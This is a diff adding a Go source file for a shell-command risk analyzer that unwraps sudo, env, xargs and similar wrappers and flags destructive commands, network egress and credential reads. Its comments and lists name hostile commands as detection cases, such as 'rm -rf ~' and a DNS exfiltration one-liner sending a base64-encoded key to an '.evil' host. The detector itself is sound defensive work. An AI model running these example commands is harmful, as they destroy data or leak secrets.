@@ -1,0 +1,561 @@
+package shell
+
+import (
+	"strings"
+
+	"github.com/airlockhq/airlock/app/internal/level"
+	"github.com/airlockhq/airlock/app/internal/risk/rate"
+)
+
+// A shell command as the analyzer sees it once wrappers are peeled off.
+type call struct {
+	a    *shellAn
+	name string // lower-case base name: "rm"
+	args []word // the words after the name
+	ops  []word // the operands among args, once worked out
+	span Span
+	pc   pipeCtx
+}
+
+// operands returns the operands among c.args, working them out once.
+func (c *call) operands() []word {
+	if c.ops == nil {
+		c.ops = operands(c.args)
+	}
+	return c.ops
+}
+
+func (c *call) add(l level.Level, rule, format string, args ...any) {
+	c.a.add(l, "shell."+rule, c.span, format, args...)
+}
+
+// wrappers run the rest of their arguments as a command. The value is the
+// set of short options that take a value, so `sudo -u bob rm` finds rm.
+var wrappers = map[string]string{
+	"sudo": "ugCDhpRrtTU", "doas": "uC", "env": "uCSPLUa", "nohup": "", "time": "", "nice": "n",
+	"ionice": "cnp", "timeout": "sk", "gtimeout": "sk", "command": "", "exec": "a", "builtin": "",
+	"caffeinate": "tw", "stdbuf": "ioe", "chroot": "", "arch": "e", "setsid": "", "unbuffer": "",
+	"noglob": "", "nocorrect": "", "watch": "nd", "xargs": "", "flock": "wE", "taskset": "",
+	"chrt": "", "script": "Ft", "then": "", "do": "", "sh-wrapper": "", "sandbox-exec": "fpnD", "busybox": "", "toybox": "",
+}
+
+// peel strips wrappers (sudo, env, nohup, xargs, timeout …) and returns the
+// command they run, and the word that named it. With report set it rates
+// the wrappers on the way.
+func (a *shellAn) peel(words []word, sp Span, report bool) (name string, args []word, bulk bool, head word) {
+	for len(words) > 0 {
+		w := words[0]
+		if w.hole || w.glob {
+			return "", words, bulk, w
+		}
+		name = commandName(w.s)
+		if t, ok := a.rebind[name]; ok {
+			if report {
+				a.add(level.Dangerous, "shell.rebind", sp, "hash makes %s run another command", rate.Display(name))
+			}
+			if t == "" {
+				return "", append([]word{{s: rate.HoleMark, hole: true, span: w.span}}, words[1:]...), bulk, w
+			}
+			name = t
+		}
+		opts, ok := wrappers[name]
+		if !ok {
+			return name, words[1:], bulk, w
+		}
+		rest := words[1:]
+		switch name {
+		case "sudo", "doas":
+			if report {
+				a.add(level.Dangerous, "shell.sudo", sp, "%s: runs as root", name)
+			}
+		case "command":
+			if hasShort(rest, 'v') || hasShort(rest, 'V') {
+				return "command", rest, bulk, w // a lookup, not a run
+			}
+		case "xargs":
+			var repl string
+			rest, repl = xargsOptions(rest)
+			if repl != "" {
+				// -I {} puts each input line where {} is: those words are
+				// computed at run time.
+				rest = replaceHoles(rest, repl)
+			} else {
+				bulk = true
+			}
+		case "env":
+			// env -S splits its string into words: env -S 'rm -rf ~'
+			for i, r := range rest {
+				if (r.s == "-S" || r.s == "--split-string") && i+1 < len(rest) {
+					split := []word{}
+					for _, f := range strings.Fields(rest[i+1].s) {
+						split = append(split, word{s: f, hole: rest[i+1].hole, span: rest[i+1].span})
+					}
+					rest = append(split, rest[i+2:]...)
+					break
+				}
+			}
+			// env prints its environment without a command; it takes
+			// options and NAME=value pairs in any order before the command.
+			for len(rest) > 0 {
+				before := len(rest)
+				rest = skipOptions(rest, opts)
+				for len(rest) > 0 && strings.Contains(rest[0].s, "=") && !strings.HasPrefix(rest[0].s, "-") {
+					if report {
+						n, v, _ := strings.Cut(rest[0].s, "=")
+						a.envVar(n, word{s: v, hole: rest[0].hole}, sp)
+					}
+					rest = rest[1:]
+				}
+				if len(rest) == before {
+					break
+				}
+			}
+		case "sandbox-exec":
+			if report {
+				a.add(level.Caution, "shell.sandbox-exec", sp, "sandbox-exec: runs a command under a sandbox profile")
+			}
+		}
+		rest = skipOptions(rest, opts)
+		switch name {
+		case "timeout", "gtimeout", "chroot", "flock", "taskset", "chrt":
+			if len(rest) > 0 {
+				rest = rest[1:] // the duration, directory, lock file, mask or priority
+			}
+		case "arch":
+			for len(rest) > 0 && strings.HasPrefix(rest[0].s, "-") {
+				rest = rest[1:]
+			}
+		case "script":
+			if len(rest) > 0 {
+				rest = rest[1:] // the typescript file
+			}
+		case "watch":
+			// watch runs its arguments, joined, with sh -c.
+			if len(rest) > 0 {
+				joined := word{span: rest[0].span}
+				for i, r := range rest {
+					if i > 0 {
+						joined.s += " "
+					}
+					joined.s += r.s
+					joined.hole = joined.hole || r.hole
+				}
+				rest = []word{{s: "sh", span: rest[0].span}, {s: "-c", span: rest[0].span}, joined}
+			}
+		}
+		if len(rest) == 0 {
+			if name == "env" {
+				return "env", nil, bulk, w // prints the environment
+			}
+			return "wrapper-alone", nil, bulk, w
+		}
+		words = rest
+	}
+	return "", nil, bulk, word{}
+}
+
+// xargsOptions skips xargs's options (BSD and GNU) and returns the
+// replacement string of -I, -J, -i or --replace, if any.
+func xargsOptions(ws []word) ([]word, string) {
+	repl := ""
+	for len(ws) > 0 {
+		s := ws[0].s
+		if ws[0].hole || !strings.HasPrefix(s, "-") || s == "-" {
+			break
+		}
+		ws = ws[1:]
+		if s == "--" {
+			break
+		}
+		if strings.HasPrefix(s, "--") {
+			name, val, hasVal := strings.Cut(s, "=")
+			switch name {
+			case "--replace":
+				repl = "{}"
+				if hasVal {
+					repl = val
+				}
+			case "--max-args", "--max-procs", "--delimiter", "--arg-file", "--eof", "--max-chars", "--max-lines", "--process-slot-var":
+				if !hasVal && len(ws) > 0 {
+					ws = ws[1:]
+				}
+			}
+			continue
+		}
+		letters := s[1:]
+		for i := 0; i < len(letters); i++ {
+			c := letters[i]
+			switch {
+			case strings.IndexByte("IJEnLPsSRad", c) >= 0:
+				val := letters[i+1:]
+				if val == "" && len(ws) > 0 {
+					val = ws[0].s
+					ws = ws[1:]
+				}
+				if c == 'I' || c == 'J' {
+					repl = val
+				}
+				i = len(letters)
+			case c == 'i': // GNU -i[R]
+				repl = letters[i+1:]
+				if repl == "" {
+					repl = "{}"
+				}
+				i = len(letters)
+			case c == 'e' || c == 'l': // GNU -e[EOF], -l[N]
+				i = len(letters)
+			}
+		}
+	}
+	return ws, repl
+}
+
+// replaceHoles turns every word holding repl into a computed word.
+func replaceHoles(ws []word, repl string) []word {
+	out := make([]word, len(ws))
+	for i, w := range ws {
+		if strings.Contains(w.s, repl) {
+			w = word{s: strings.ReplaceAll(w.s, repl, rate.HoleMark), hole: true, glob: true, span: w.span}
+		}
+		out[i] = w
+	}
+	return out
+}
+
+// skipOptions drops leading options; letters in valued take an argument.
+func skipOptions(ws []word, valued string) []word {
+	for len(ws) > 0 {
+		s := ws[0].s
+		if ws[0].hole || !strings.HasPrefix(s, "-") || s == "-" {
+			return ws
+		}
+		ws = ws[1:]
+		if s == "--" {
+			return ws
+		}
+		if strings.HasPrefix(s, "--") {
+			if !strings.Contains(s, "=") && len(ws) > 0 && longTakesValue(s) {
+				ws = ws[1:]
+			}
+			continue
+		}
+		letters := s[1:]
+		for i := 0; i < len(letters); i++ {
+			if strings.IndexByte(valued, letters[i]) >= 0 {
+				if i == len(letters)-1 && len(ws) > 0 {
+					ws = ws[1:]
+				}
+				break
+			}
+		}
+	}
+	return ws
+}
+
+func longTakesValue(s string) bool {
+	switch s {
+	case "--user", "--group", "--signal", "--kill-after", "--max-args", "--max-procs", "--replace", "--delimiter", "--arg-file", "--unset", "--chdir", "--interval":
+		return true
+	}
+	return false
+}
+
+// call rates one simple command.
+func (a *shellAn) call(words []word, sp Span, pc pipeCtx) {
+	a.callOps(words, sp, pc, "", nil, nil)
+}
+
+// callOps is call with the command's name, arguments and operands when the
+// caller has them already (ops nil: work them out).
+func (a *shellAn) callOps(words []word, sp Span, pc pipeCtx, _ string, _ []word, knownOps []word) {
+	for _, w := range words {
+		if w.splice {
+			a.add(level.Dangerous, "shell.splice", sp, "text computed at run time is spliced into the command unquoted: it can change the command")
+			break
+		}
+	}
+	name, args, bulk, head := a.peel(words, sp, true)
+	if name == "" {
+		if len(args) == 0 {
+			return
+		}
+		head := args[0]
+		// A computed command name ("$@", "${cmd[@]}", $(…)) can be
+		// anything at all; a glob (/bin/r?) is one of the files it matches.
+		l := level.Destructive
+		what := "computed at run time"
+		if head.glob && !head.hole {
+			what = "a glob"
+			if !looksDestructive(args[1:]) {
+				l = level.Dangerous
+			}
+		}
+		a.add(l, "shell.dynamic-command", sp, "command name is %s (%s): cannot tell what runs", what, rate.Display(head.s))
+		for _, w := range args[1:] {
+			a.read(w, sp)
+		}
+		return
+	}
+	if bulk {
+		// xargs appends many words read from stdin.
+		args = append(args, word{s: rate.HoleMark, hole: true, glob: true})
+	}
+	c := &call{a: a, name: name, args: args, span: sp, pc: pc}
+	if knownOps != nil && !bulk {
+		c.ops = knownOps
+	}
+	// ./i.sh, /tmp/x: running a file this same input wrote or downloaded;
+	// ls, after writing ~/.local/bin/ls: the same.
+	if strings.Contains(head.s, "/") {
+		if _, ok := a.fileContent(head.s); ok {
+			a.runFile(c, head.s)
+			return
+		}
+	} else if k, ok := a.bins[name]; ok && !a.funcs[name] {
+		a.runFile(c, k)
+		return
+	}
+	if v, ok := a.alias[name]; ok && a.inAlias < 8 && !strings.ContainsAny(v, ";&|<>()`$\"'\\\n") {
+		// An alias with a plain value: ll='rm -rf'; ll ~ runs rm -rf ~.
+		var expanded []word
+		for _, f := range strings.Fields(v) {
+			expanded = append(expanded, word{s: f, span: sp})
+		}
+		if len(expanded) > 0 && commandName(expanded[0].s) != name {
+			a.inAlias++
+			a.callOps(append(expanded, args...), sp, pc, "", nil, nil)
+			a.inAlias--
+			return
+		}
+	}
+	if a.funcs[name] {
+		// The script's own function or alias: its body is analysed where it
+		// is defined, and again with its input when it has one:
+		// f() { bash; }; curl … | f
+		if body := a.bodies[name]; body != nil && pc.stdin != "" && pc.stdin != "devnull" && a.inFunc < 4 {
+			a.inFunc++
+			pc.inPipe = false
+			a.stmt(body, pc)
+			a.inFunc--
+		}
+		return
+	}
+	if r, ok := rows.row(name); ok {
+		r.rate(c)
+	} else if h := prefixCommand(name); h != nil {
+		h(c)
+	} else {
+		c.add(level.Dangerous, "unknown-command", "unknown command %q: cannot tell what it does", rate.Display(name))
+		c.embedded()
+	}
+	c.guardCall()
+	c.noteSelfLookup()
+	if netTools[name] || lookupTools[name] && !allKnown(c.args) {
+		// Whatever it sends can carry what the script read.
+		if netTools[name] {
+			a.egress("network", sp, "%s: sends data over the network", name)
+		} else {
+			a.egress("dns", sp, "%s: looks up a computed name, which carries data out in the query", name)
+		}
+	}
+	// Reading from credential stores, whatever the command.
+	if !noPathRead[name] {
+		for _, w := range operands(args) {
+			a.read(w, sp)
+		}
+	}
+}
+
+// maxEmbedded bounds the command lines looked for in one command's
+// arguments.
+const maxEmbedded = 8
+
+// embedded rates the command lines found in the arguments of a command
+// whose behaviour is not known (lockf, entr, parallel, hyperfine, uv run,
+// a look-alike of sudo …) or that runs what it is given (npx -c): many
+// such tools run their arguments. An argument naming a known command
+// starts a command line (lockf /tmp/l rm -rf ~); an argument with blanks
+// or shell operators whose first word is a known command is a script
+// (hyperfine 'rm -rf ~'). Only what would be worse than Dangerous counts:
+// the command itself is Dangerous already.
+func (c *call) embedded() {
+	probes := 0
+	for i, w := range c.args {
+		if w.hole || w.s == "" || strings.HasPrefix(w.s, "-") || probes >= maxEmbedded {
+			continue
+		}
+		first, _, spaced := strings.Cut(strings.TrimSpace(w.s), " ")
+		if !spaced {
+			first, _, spaced = strings.Cut(first, "\t")
+		}
+		if !knownCommand(commandName(first)) {
+			continue
+		}
+		probes++
+		var sub Verdict
+		sp := c.span
+		inner := newShellAn(&sub, c.a.env, anchorOr(c.a.anchor, &sp), c.a.depth+1, "", c.a.sh)
+		if spaced || strings.ContainsAny(w.s, ";|&\n") {
+			inner = shellRun(&sub, w.s, c.a.env, anchorOr(c.a.anchor, &sp), c.a.depth+1, c.a.sh)
+		} else {
+			inner.call(c.args[i:], c.span, pipeCtx{})
+			inner.finish()
+		}
+		if sub.Level <= level.Dangerous {
+			continue
+		}
+		unsure := false
+		for _, r := range sub.Reasons {
+			unsure = unsure || r.Rule == "shell.unparseable" || r.Rule == "shell.too-complex" || r.Rule == "shell.too-deep"
+		}
+		if unsure {
+			continue
+		}
+		c.add(level.Destructive, "runs-arguments", "%s may run its arguments as a command: %s", c.name, rate.Display(w.s))
+		for _, r := range sub.Reasons {
+			c.a.v.AddText(r.Level, r.Rule, r.Span, r.Text)
+		}
+		c.adopt(inner)
+		return
+	}
+}
+
+// knownCommand reports a command name the shell analyzer has rules for.
+func knownCommand(name string) bool {
+	if _, ok := rows.row(name); ok {
+		return true
+	}
+	_, ok := wrappers[name]
+	return ok || prefixCommand(name) != nil || shells[name]
+}
+
+// netTools send data over the network; lookupTools do when a name they
+// look up is computed (DNS exfiltration: dig "$(base64 < key).evil").
+var netTools = map[string]bool{
+	"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true, "ssh": true,
+	"scp": true, "sftp": true, "ftp": true, "http": true, "https": true, "aria2c": true, "mail": true, "mailx": true,
+	"sendmail": true, "smbclient": true, "rclone": true, "lwp-request": true, "fetch": true,
+}
+
+var lookupTools = map[string]bool{
+	"dig": true, "nslookup": true, "host": true, "ping": true, "ping6": true, "traceroute": true, "whois": true,
+	"dscacheutil": true, "drill": true,
+}
+
+// noPathRead lists commands whose operands are not file contents they read.
+var noPathRead = map[string]bool{
+	"ls": true, "stat": true, "test": true, "[": true, "[[": true, "file": true, "du": true, "echo": true,
+	"printf": true, "rm": true, "mkdir": true, "touch": true, "cd": true, "dirname": true, "basename": true,
+	"realpath": true, "readlink": true, "chmod": true, "chown": true, "chgrp": true, "mdls": true, "open": true,
+	"say": true, "ssh-keygen": true, "ssh-add": true, "find": true, "rmdir": true,
+}
+
+// looksDestructive guesses from arguments alone: rm-style force/recursive
+// flags or a target at the root of the disk or home.
+func looksDestructive(args []word) bool {
+	for _, w := range args {
+		s := w.s
+		if strings.HasPrefix(s, "-") && !strings.HasPrefix(s, "--") && (strings.ContainsAny(s[1:], "rRf")) {
+			return true
+		}
+		switch s {
+		case "--recursive", "--force", "/", "~", "~/", "/*", "~/*":
+			return true
+		}
+	}
+	return false
+}
+
+// hasShort reports a short flag, alone or combined (-rf has r and f).
+func hasShort(args []word, f byte) bool {
+	for _, w := range args {
+		s := w.s
+		if s == "--" {
+			return false
+		}
+		if len(s) > 1 && s[0] == '-' && s[1] != '-' && !w.hole && strings.IndexByte(s[1:], f) >= 0 {
+			return true
+		}
+	}
+	return false
+}
+
+// hasLong reports a long option, with or without =value.
+func hasLong(args []word, names ...string) bool {
+	for _, w := range args {
+		if w.s == "--" {
+			return false
+		}
+		for _, n := range names {
+			if w.s == n || strings.HasPrefix(w.s, n+"=") {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+func hasArg(args []word, vals ...string) bool {
+	for _, w := range args {
+		for _, v := range vals {
+			if strings.EqualFold(w.s, v) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// operands are the words that are not options.
+func operands(args []word) []word {
+	options := false
+	for _, w := range args {
+		if strings.HasPrefix(w.s, "-") {
+			options = true
+			break
+		}
+	}
+	if !options {
+		return args
+	}
+	var out []word
+	end := false
+	for _, w := range args {
+		if !end && w.s == "--" {
+			end = true
+			continue
+		}
+		if !end && strings.HasPrefix(w.s, "-") && len(w.s) > 1 && !w.hole {
+			continue
+		}
+		out = append(out, w)
+	}
+	return out
+}
+
+// sub returns the first operand, lower-cased: the subcommand of git, brew …
+func sub(args []word) string {
+	ops := operands(args)
+	if len(ops) == 0 {
+		return ""
+	}
+	return strings.ToLower(ops[0].s)
+}
+
+func prefixCommand(name string) func(*call) {
+	switch {
+	case strings.HasPrefix(name, "mkfs") || strings.HasPrefix(name, "newfs"):
+		return func(c *call) { c.add(level.Destructive, "mkfs", "%s: formats a disk", c.name) }
+	case strings.HasPrefix(name, "python") || strings.HasPrefix(name, "pypy"):
+		return interpreter(pythonSpec)
+	case strings.HasPrefix(name, "perl"):
+		return interpreter(perlSpec)
+	case strings.HasPrefix(name, "ruby"):
+		return interpreter(rubySpec)
+	}
+	return nil
+}
+
+var downloaders = map[string]bool{"curl": true, "wget": true, "fetch": true, "aria2c": true, "http": true, "https": true, "lwp-download": true, "ftp": true}
+
+var shells = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "mksh": true, "fish": true, "tcsh": true, "csh": true}
